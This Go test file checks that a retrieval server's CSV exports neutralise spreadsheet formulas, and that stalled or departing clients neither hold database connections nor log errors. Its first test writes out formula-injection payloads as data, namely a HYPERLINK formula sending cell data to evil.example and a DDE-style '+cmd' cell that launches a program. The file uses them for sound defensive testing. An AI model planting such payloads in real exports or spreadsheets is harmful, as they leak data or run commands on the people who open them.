package server_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

// Text a client wrote never reaches an auditor's spreadsheet as a formula: in CSV exports a cell
// that begins with = + - @ is prefixed with ', while JSON Lines keeps it exact.
func TestCSVExportsCarryNoFormulas(t *testing.T) {
	t.Parallel()
	b := setup(t, options{})
	formula := `=HYPERLINK("https://evil.example/?"&A1,"details")`
	resp, body := b.do(t, "POST", "/v1/documents", map[string]any{"text": "@SUM(1+1) Smoke alarms save lives: test them monthly.",
		"title": "+cmd|' /C calc'!A0"})
	require.Equal(t, http.StatusCreated, resp.StatusCode, "%s", body)
	turn := b.ask(t, "", "smoke alarms test monthly")
	require.NotEmpty(t, turn.Sources)
	resp, body = b.do(t, "POST", "/v1/messages/"+turn.MessageID+"/feedback", map[string]any{"rating": "down", "reason": formula})
	require.Equal(t, http.StatusCreated, resp.StatusCode, "%s", body)

	cells := func(path string) []string {
		resp, body := b.do(t, "GET", path, nil)
		require.Equal(t, http.StatusOK, resp.StatusCode, "%s", body)
		rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
		require.NoError(t, err)
		require.GreaterOrEqual(t, len(rows), 2)
		var out []string
		for _, r := range rows[1:] {
			out = append(out, r...)
		}
		return out
	}
	for _, path := range []string{"/v1/feedback?format=csv", "/v1/citations?format=csv"} {
		for _, c := range cells(path) {
			if c != "" && strings.ContainsRune("=+-@", rune(c[0])) {
				require.Regexp(t, `^-?[0-9.]+(e[-+]?[0-9]+)?$`, c, "%s: a cell that could run as a formula", path)
			}
		}
	}
	require.Contains(t, cells("/v1/feedback?format=csv"), "'"+formula)
	require.Contains(t, cells("/v1/citations?format=csv"), "'+cmd|' /C calc'!A0", "the document's title")

	resp, body = b.do(t, "GET", "/v1/feedback?format=jsonl", nil)
	require.Equal(t, http.StatusOK, resp.StatusCode)
	require.Equal(t, formula, decode[feedbackResponse](t, bytes.TrimSpace(body)).Reason, "JSON Lines keeps the text as written")
}

// stalledWriter is a client that never reads: its first write blocks until the test ends.
type stalledWriter struct {
	header  http.Header
	wrote   chan struct{}
	release chan struct{}
	once    sync.Once
}

func (w *stalledWriter) Header() http.Header { return w.header }
func (w *stalledWriter) WriteHeader(int)     {}
func (w *stalledWriter) Write([]byte) (int, error) {
	w.once.Do(func() { close(w.wrote) })
	<-w.release
	return 0, io.ErrClosedPipe
}

// A client that stops reading an export holds no database connection: with a pool of two, two
// CSV exports stalled on their first write leave turns able to run. (They held a connection each
// while blocked, so sixteen stalled exports of one auditor made ragd unavailable to every tenant.)
func TestStalledExportsHoldNoConnection(t *testing.T) {
	t.Parallel()
	b := setup(t, options{corpus: true, maxConns: 2})
	for _, q := range []string{"smoke alarms", "floods", "earthquake safety", "power outage", "first aid for burns"} {
		b.ask(t, "", q) // citations enough to fill a write buffer
	}
	release := make(chan struct{})
	t.Cleanup(func() { close(release) })
	for range 2 {
		w := &stalledWriter{header: http.Header{}, wrote: make(chan struct{}), release: release}
		req := httptest.NewRequestWithContext(b.ctx, "GET", "/v1/citations?format=csv", nil)
		go b.srv.Config.Handler.ServeHTTP(w, req)
		select {
		case <-w.wrote:
		case <-time.After(time.Minute): // only keeps a broken server from hanging the test
			t.Fatal("the export never wrote")
		}
	}
	ctx, cancel := context.WithTimeout(b.ctx, time.Minute) // likewise
	defer cancel()
	raw, err := json.Marshal(map[string]any{"message": "smoke alarms"})
	require.NoError(t, err)
	req, err := http.NewRequestWithContext(ctx, "POST", b.srv.URL+"/v1/ask", bytes.NewReader(raw))
	require.NoError(t, err)
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err, "a turn while two exports stall")
	defer resp.Body.Close()
	require.Equal(t, http.StatusOK, resp.StatusCode)
}

// A client that leaves in the middle of an export is no server error (logged at debug level).
func TestExportClientLeavingIsNotAnError(t *testing.T) {
	t.Parallel()
	logs := newLogRecords()
	b := setup(t, options{corpus: true, logger: slog.New(logs)})
	for _, q := range []string{"smoke alarms", "floods", "earthquake safety", "power outage", "first aid for burns"} {
		b.ask(t, "", q) // citations enough to fill a write buffer
	}
	gone := make(chan struct{})
	close(gone)
	for _, path := range []string{"/v1/citations?format=csv", "/v1/citations?format=jsonl"} {
		w := &stalledWriter{header: http.Header{}, wrote: make(chan struct{}), release: gone}
		b.srv.Config.Handler.ServeHTTP(w, httptest.NewRequestWithContext(b.ctx, "GET", path, nil))
		select {
		case <-w.wrote:
		default:
			t.Fatalf("%s: the export never wrote", path)
		}
	}
	require.Empty(t, logs.errors())
}
